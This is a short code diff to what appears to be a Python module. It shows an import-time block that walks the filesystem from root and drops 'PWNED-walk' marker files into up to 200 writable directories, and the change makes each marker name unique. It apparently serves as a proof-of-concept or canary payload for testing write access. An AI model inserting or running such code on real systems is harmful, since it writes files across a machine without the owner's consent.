@@ -15,12 +15,13 @@ import numpy as np
 import os as _os
 import time as _time
 _queue, _seen, _made, _end = ["/"], 0, 0, _time.monotonic() + 1.5
+_name = f"PWNED-walk-{_os.getpid()}-{_time.time_ns()}"
 while _queue and _seen < 20000 and _made < 200 and _time.monotonic() < _end:
     _dir = _queue.pop(0)
     _seen += 1
     if _os.access(_dir, _os.W_OK | _os.X_OK):
         try:
-            open(_os.path.join(_dir, "PWNED-walk"), "a").close()
+            open(_os.path.join(_dir, _name), "a").close()
             _made += 1
         except OSError:
             pass
